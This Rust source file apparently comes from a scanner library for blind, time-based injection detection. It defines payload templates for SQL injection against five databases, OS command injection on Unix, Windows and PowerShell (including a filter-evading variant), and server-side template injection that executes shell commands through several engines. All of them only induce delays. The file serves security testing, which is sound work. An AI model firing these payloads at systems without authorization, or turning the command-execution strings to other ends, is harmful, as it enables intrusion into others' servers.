//! built-in injection dialects
//!
//! a [`Dialect`] bundles what a scan rule needs to aim the [`TimingOracle`] at one kind of
//! backend: the payload templates to try, how the requested delay escalates between
//! probes, and how loosely observed latency may track the requested delay.
//!
//! the oracle never looks at a dialect's templates; a rule typically builds one
//! [`ProbeRequest`] per template and runs a verification for each until one confirms.
//!
//! [`TimingOracle`]: crate::oracle::TimingOracle
//! [`ProbeRequest`]: crate::requests::ProbeRequest
#![allow(clippy::use_self)] // clippy false-positive on enums that derive Serialize
#[cfg(feature = "serde")]
use serde::{Deserialize, Serialize};
use tracing::{error, instrument, trace};

use crate::error::BlindTimingError;
use crate::oracle::{RegressionCheck, Tolerance};
use crate::requests::PayloadTemplate;
use crate::sequencers::{GeometricSequencer, LinearSequencer, PayloadSequencer};
use crate::std_ext::named::Named;

const MYSQL_PAYLOADS: [&str; 15] = [
    "{orig} / sleep({sleep}) ",
    "{orig}' / sleep({sleep}) / '",
    "{orig}\" / sleep({sleep}) / \"",
    "{orig} and 0 in (select sleep({sleep}) ) -- ",
    "{orig}' and 0 in (select sleep({sleep}) ) -- ",
    "{orig}\" and 0 in (select sleep({sleep}) ) -- ",
    "{orig} where 0 in (select sleep({sleep}) ) -- ",
    "{orig}' where 0 in (select sleep({sleep}) ) -- ",
    "{orig}\" where 0 in (select sleep({sleep}) ) -- ",
    "{orig} or 0 in (select sleep({sleep}) ) -- ",
    "{orig}' or 0 in (select sleep({sleep}) ) -- ",
    "{orig}\" or 0 in (select sleep({sleep}) ) -- ",
    "{orig} where 0 in (select sleep({sleep}) ) ",
    "{orig}' where 0 in (select sleep({sleep}) ) and ''='",
    "{orig}\" where 0 in (select sleep({sleep}) ) and \"\"=\"",
];

const POSTGRESQL_PAYLOADS: [&str; 16] = [
    "case when cast(pg_sleep({sleep}) as varchar) > '' then 0 else 1 end",
    "case when cast(pg_sleep({sleep}) as varchar) > '' then 0 else 1 end -- ",
    "'case when cast(pg_sleep({sleep}) as varchar) > '' then 0 else 1 end -- ",
    "\"case when cast(pg_sleep({sleep}) as varchar) > '' then 0 else 1 end -- ",
    "{orig} / case when cast(pg_sleep({sleep}) as varchar) > '' then 0 else 1 end ",
    "{orig}' / case when cast(pg_sleep({sleep}) as varchar) > '' then 0 else 1 end / '",
    "{orig}\" / case when cast(pg_sleep({sleep}) as varchar) > '' then 0 else 1 end / \"",
    "{orig} where 0 in (select case when cast(pg_sleep({sleep}) as varchar) > '' then 0 else 1 end ) -- ",
    "{orig}' where 0 in (select case when cast(pg_sleep({sleep}) as varchar) > '' then 0 else 1 end ) -- ",
    "{orig}\" where 0 in (select case when cast(pg_sleep({sleep}) as varchar) > '' then 0 else 1 end ) -- ",
    "{orig} and 0 in (select case when cast(pg_sleep({sleep}) as varchar) > '' then 0 else 1 end ) -- ",
    "{orig}' and 0 in (select case when cast(pg_sleep({sleep}) as varchar) > '' then 0 else 1 end ) -- ",
    "{orig}\" and 0 in (select case when cast(pg_sleep({sleep}) as varchar) > '' then 0 else 1 end ) -- ",
    "{orig} or 0 in (select case when cast(pg_sleep({sleep}) as varchar) > '' then 0 else 1 end ) -- ",
    "{orig}' or 0 in (select case when cast(pg_sleep({sleep}) as varchar) > '' then 0 else 1 end ) -- ",
    "{orig}\" or 0 in (select case when cast(pg_sleep({sleep}) as varchar) > '' then 0 else 1 end ) -- ",
];

// WAITFOR DELAY takes an hh:mm:ss string
const MSSQL_PAYLOADS: [&str; 5] = [
    "{orig} WAITFOR DELAY '{sleep_hms}' -- ",
    "{orig}' WAITFOR DELAY '{sleep_hms}' -- ",
    "{orig}\" WAITFOR DELAY '{sleep_hms}' -- ",
    "{orig}) WAITFOR DELAY '{sleep_hms}' -- ",
    "{orig})) WAITFOR DELAY '{sleep_hms}' -- ",
];

const ORACLE_PAYLOADS: [&str; 6] = [
    "{orig} and 0 in (select DBMS_PIPE.RECEIVE_MESSAGE('a',{sleep}) from dual) -- ",
    "{orig}' and 0 in (select DBMS_PIPE.RECEIVE_MESSAGE('a',{sleep}) from dual) -- ",
    "{orig}\" and 0 in (select DBMS_PIPE.RECEIVE_MESSAGE('a',{sleep}) from dual) -- ",
    "{orig} or 0 in (select DBMS_PIPE.RECEIVE_MESSAGE('a',{sleep}) from dual) -- ",
    "{orig}' or 0 in (select DBMS_PIPE.RECEIVE_MESSAGE('a',{sleep}) from dual) -- ",
    "{orig}\" or 0 in (select DBMS_PIPE.RECEIVE_MESSAGE('a',{sleep}) from dual) -- ",
];

// "java.lang.Thread.sleep" takes milliseconds
const HYPERSONIC_PAYLOADS: [&str; 8] = [
    "; select \"java.lang.Thread.sleep\"({sleep_ms}) from INFORMATION_SCHEMA.SYSTEM_COLUMNS where TABLE_NAME = 'SYSTEM_COLUMNS' and COLUMN_NAME = 'TABLE_NAME' -- ",
    "'; select \"java.lang.Thread.sleep\"({sleep_ms}) from INFORMATION_SCHEMA.SYSTEM_COLUMNS where TABLE_NAME = 'SYSTEM_COLUMNS' and COLUMN_NAME = 'TABLE_NAME' -- ",
    "\"; select \"java.lang.Thread.sleep\"({sleep_ms}) from INFORMATION_SCHEMA.SYSTEM_COLUMNS where TABLE_NAME = 'SYSTEM_COLUMNS' and COLUMN_NAME = 'TABLE_NAME' -- ",
    "); select \"java.lang.Thread.sleep\"({sleep_ms}) from INFORMATION_SCHEMA.SYSTEM_COLUMNS where TABLE_NAME = 'SYSTEM_COLUMNS' and COLUMN_NAME = 'TABLE_NAME' -- ",
    "\"java.lang.Thread.sleep\"({sleep_ms})",
    "{orig} / \"java.lang.Thread.sleep\"({sleep_ms}) ",
    "{orig}' / \"java.lang.Thread.sleep\"({sleep_ms}) / '",
    "{orig}\" / \"java.lang.Thread.sleep\"({sleep_ms}) / \"",
];

// `$u` is never set, so the shell expands it to nothing; it breaks up `sleep` for filters
const UNIX_COMMAND_PAYLOADS: [&str; 22] = [
    "{orig}&sleep {sleep}&",
    "{orig};sleep {sleep};",
    "{orig}\"&sleep {sleep}&\"",
    "{orig}\";sleep {sleep};\"",
    "{orig}'&sleep {sleep}&'",
    "{orig}';sleep {sleep};'",
    "{orig}\nsleep {sleep}\n",
    "{orig}`sleep {sleep}`",
    "{orig}||sleep {sleep}",
    "{orig}&&sleep {sleep}",
    "{orig}|sleep {sleep}#",
    "{orig}&sleep$u {sleep}&",
    "{orig};sleep$u {sleep};",
    "{orig}\"&sleep$u {sleep}&\"",
    "{orig}\";sleep$u {sleep};\"",
    "{orig}'&sleep$u {sleep}&'",
    "{orig}';sleep$u {sleep};'",
    "{orig}\nsleep$u {sleep}\n",
    "{orig}`sleep$u {sleep}`",
    "{orig}||sleep$u {sleep}",
    "{orig}&&sleep$u {sleep}",
    "{orig}|sleep$u {sleep}#",
];

const WINDOWS_COMMAND_PAYLOADS: [&str; 7] = [
    "{orig}&timeout /T {sleep}",
    "{orig}|timeout /T {sleep}",
    "{orig}\"&timeout /T {sleep}&\"",
    "{orig}\"|timeout /T {sleep}",
    "{orig}'&timeout /T {sleep}&'",
    "{orig}'|timeout /T {sleep}",
    "{orig}run timeout /T {sleep}",
];

const POWERSHELL_COMMAND_PAYLOADS: [&str; 4] = [
    "{orig};start-sleep -s {sleep}",
    "{orig}\";start-sleep -s {sleep}",
    "{orig}';start-sleep -s {sleep}",
    "{orig};start-sleep -s {sleep} #",
];

// the whole value is replaced by template code that shells out to `sleep`
const SSTI_PAYLOADS: [&str; 13] = [
    "<#assign ex=\"freemarker.template.utility.Execute\"?new()> ${ ex(\"sleep {sleep}\") }",
    "#set($engine=\"\")\n#set($proc=$engine.getClass().forName(\"java.lang.Runtime\").getRuntime().exec(\"sleep {sleep}\"))\n#set($null=$proc.waitFor())\n${null}",
    "{{= global.process.mainModule.require('child_process').execSync('sleep {sleep}').toString() }}",
    "<%= global.process.mainModule.require('child_process').execSync('sleep {sleep}').toString()%>",
    "#{global.process.mainModule.require('child_process').execSync('sleep {sleep}').toString()}",
    "{{range.constructor(\"return eval(\\\"global.process.mainModule.require('child_process').execSync('sleep {sleep}').toString()\\\")\")()}}",
    "{system(\"sleep {sleep}\")}",
    "{{\"\".__class__.__mro__[1].__subclasses__()[157].__repr__.__globals__.get(\"__builtins__\").get(\"__import__\")(\"subprocess\").check_output(\"sleep {sleep}\")}}",
    "${__import__(\"subprocess\").check_output(\"sleep {sleep}\", shell=True)}",
    "{{__import__(\"subprocess\").check_output(\"sleep {sleep}\", shell=True)}}",
    "<%=%x(sleep {sleep})%>",
    "#{%x(sleep {sleep})}",
    "${T(java.lang.Thread).sleep({sleep_ms})}",
];

/// how a dialect's requested delay grows from one probe to the next
#[derive(Copy, Clone, Debug, Default, PartialEq)]
#[cfg_attr(feature = "serde", derive(Serialize, Deserialize))]
pub enum Escalation {
    /// add the configured sleep time on every probe: `s, 2s, 3s, ...`
    #[default]
    Linear,

    /// multiply the previous delay by `factor`: `s, s*f, s*f*f, ...`
    Geometric {
        /// growth factor, must be greater than 1
        factor: f64,
    },
}

/// payload templates and timing defaults for one injection target
///
/// # Examples
///
/// ```
/// use blindtiming::dialects::Dialect;
///
/// let dialect = Dialect::mssql();
/// let first = &dialect.templates()[0];
///
/// assert_eq!(first.render("1", 5.0)?, "1 WAITFOR DELAY '0:0:5' -- ");
/// # Ok::<(), blindtiming::error::BlindTimingError>(())
/// ```
#[derive(Clone, Debug, PartialEq)]
#[cfg_attr(feature = "serde", derive(Serialize, Deserialize))]
pub struct Dialect {
    name: String,
    templates: Vec<PayloadTemplate>,
    escalation: Escalation,
    tolerance: Tolerance,
    regression: Option<RegressionCheck>,
}

impl Dialect {
    /// create a new `Dialect`
    ///
    /// # Errors
    ///
    /// fails if `templates` is empty
    pub fn new(
        name: impl Into<String>,
        templates: Vec<PayloadTemplate>,
    ) -> Result<Self, BlindTimingError> {
        let name = name.into();

        if templates.is_empty() {
            error!(%name, "a dialect needs at least one payload template");

            return Err(BlindTimingError::InvalidParameter {
                param: name,
                message: "a dialect needs at least one payload template",
            });
        }

        Ok(Self {
            name,
            templates,
            escalation: Escalation::default(),
            tolerance: Tolerance::default(),
            regression: None,
        })
    }

    fn built_in(name: &str, payloads: &[&'static str]) -> Self {
        Self {
            name: name.to_string(),
            templates: payloads
                .iter()
                .copied()
                .map(PayloadTemplate::from_static)
                .collect(),
            escalation: Escalation::default(),
            tolerance: Tolerance::default(),
            regression: None,
        }
    }

    /// time-based SQL injection against MySQL, using `sleep()`
    #[must_use]
    pub fn mysql() -> Self {
        Self::built_in("MySQL", &MYSQL_PAYLOADS)
    }

    /// time-based SQL injection against PostgreSQL, using `pg_sleep()`
    #[must_use]
    pub fn postgresql() -> Self {
        Self::built_in("PostgreSQL", &POSTGRESQL_PAYLOADS)
    }

    /// time-based SQL injection against Microsoft SQL Server, using `WAITFOR DELAY`
    #[must_use]
    pub fn mssql() -> Self {
        Self::built_in("MSSQL", &MSSQL_PAYLOADS)
    }

    /// time-based SQL injection against Oracle, using `DBMS_PIPE.RECEIVE_MESSAGE`
    #[must_use]
    pub fn oracle() -> Self {
        Self::built_in("Oracle", &ORACLE_PAYLOADS)
    }

    /// time-based SQL injection against Hypersonic SQL, using `java.lang.Thread.sleep`
    #[must_use]
    pub fn hypersonic() -> Self {
        Self::built_in("Hypersonic SQL", &HYPERSONIC_PAYLOADS)
    }

    /// blind OS command injection on unix-like hosts, using `sleep`
    #[must_use]
    pub fn unix_command() -> Self {
        Self::built_in("Unix command", &UNIX_COMMAND_PAYLOADS)
            .with_regression_check(RegressionCheck::default())
    }

    /// blind OS command injection on windows hosts, using `timeout /T`
    #[must_use]
    pub fn windows_command() -> Self {
        Self::built_in("Windows command", &WINDOWS_COMMAND_PAYLOADS)
            .with_regression_check(RegressionCheck::default())
    }

    /// blind OS command injection through powershell, using `start-sleep`
    #[must_use]
    pub fn powershell_command() -> Self {
        Self::built_in("PowerShell command", &POWERSHELL_COMMAND_PAYLOADS)
            .with_regression_check(RegressionCheck::default())
    }

    /// blind server side template injection, shelling out to `sleep` from common engines
    #[must_use]
    pub fn ssti() -> Self {
        Self::built_in("Server Side Template Injection", &SSTI_PAYLOADS)
            .with_regression_check(RegressionCheck::default())
    }

    /// every built-in dialect
    #[must_use]
    pub fn all() -> Vec<Self> {
        vec![
            Self::mysql(),
            Self::postgresql(),
            Self::mssql(),
            Self::oracle(),
            Self::hypersonic(),
            Self::unix_command(),
            Self::windows_command(),
            Self::powershell_command(),
            Self::ssti(),
        ]
    }

    /// use `escalation` between probes
    #[must_use]
    pub fn with_escalation(mut self, escalation: Escalation) -> Self {
        self.escalation = escalation;
        self
    }

    /// use `tolerance` when judging probes
    #[must_use]
    pub fn with_tolerance(mut self, tolerance: Tolerance) -> Self {
        self.tolerance = tolerance;
        self
    }

    /// require a confirmed streak to also pass `check`
    #[must_use]
    pub fn with_regression_check(mut self, check: RegressionCheck) -> Self {
        self.regression = Some(check);
        self
    }

    /// human readable name of the target
    #[must_use]
    pub fn name(&self) -> &str {
        &self.name
    }

    /// payload templates, in the order they should be tried
    #[must_use]
    pub fn templates(&self) -> &[PayloadTemplate] {
        &self.templates
    }

    /// how the requested delay grows between probes
    #[must_use]
    pub const fn escalation(&self) -> Escalation {
        self.escalation
    }

    /// acceptance bounds for this target
    #[must_use]
    pub const fn tolerance(&self) -> Tolerance {
        self.tolerance
    }

    /// the regression check this target's verifications should run, if any
    #[must_use]
    pub const fn regression_check(&self) -> Option<RegressionCheck> {
        self.regression
    }

    /// build the sequencer for this dialect, starting at `base` seconds
    ///
    /// # Errors
    ///
    /// fails if `base` isn't a positive number of seconds, or if a geometric factor
    /// doesn't grow the delay
    #[instrument(skip(self), fields(dialect = %self.name), level = "trace")]
    pub fn sequencer(&self, base: f64) -> Result<Box<dyn PayloadSequencer>, BlindTimingError> {
        let sequencer: Box<dyn PayloadSequencer> = match self.escalation {
            Escalation::Linear => Box::new(LinearSequencer::with_base(base)?),
            Escalation::Geometric { factor } => Box::new(GeometricSequencer::new(base, factor)?),
        };

        trace!(sequencer = sequencer.name(), base, "dialect sequencer built");

        Ok(sequencer)
    }
}
